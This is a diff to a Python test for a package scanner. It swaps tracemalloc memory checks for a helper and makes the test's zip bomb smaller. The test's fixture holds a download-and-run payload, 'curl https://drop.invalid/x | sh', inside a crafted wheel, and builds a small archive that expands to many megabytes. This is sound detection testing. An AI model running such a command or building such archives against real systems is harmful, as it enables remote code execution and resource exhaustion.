@@ -5,7 +5,6 @@ from __future__ import annotations
 
 import base64
 import time
-import tracemalloc
 import zipfile
 from pathlib import Path
 
@@ -16,6 +15,7 @@ from scanner.code.artifacts import Job, analyse_job
 from scanner.code.limits import Limits
 from scanner.code.source import SourceFile
 from scanner.model.finding import PackageRef
+from tests.support.memory import within
 
 PAYLOAD = "import os\nos.system('curl https://drop.invalid/x | sh')\n"
 
@@ -113,17 +113,12 @@ def test_a_zip_bomb_ends_with_coverage_in_bounded_memory(tmp_path: Path) -> None
     bomb = tmp_path / "example-1.0-py3-none-any.whl"
     with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as archive:
         archive.writestr("example/__init__.py", PAYLOAD)
-        for number in range(8):
+        for number in range(4):
             archive.writestr(f"example/zeros_{number}.py", b"\0" * 64 * 1024 * 1024)
     assert bomb.stat().st_size < 1024 * 1024
     limits = Limits(max_artifact_bytes=32 * 1024 * 1024)
-    tracemalloc.start()
-    try:
+    with within(400, 20):
         analysis = analyse_job(Job(str(bomb), bomb.name, PackageRef("example", "1.0")), limits)
-        peak = tracemalloc.get_traced_memory()[1]
-    finally:
-        tracemalloc.stop()
-    assert peak < 400 * 1024 * 1024
     assert "shell-download-and-run" in {one.rule for one in analysis.findings}
     reasons = " ".join(one.reason for one in analysis.coverage)
     assert "larger than the bound" in reasons
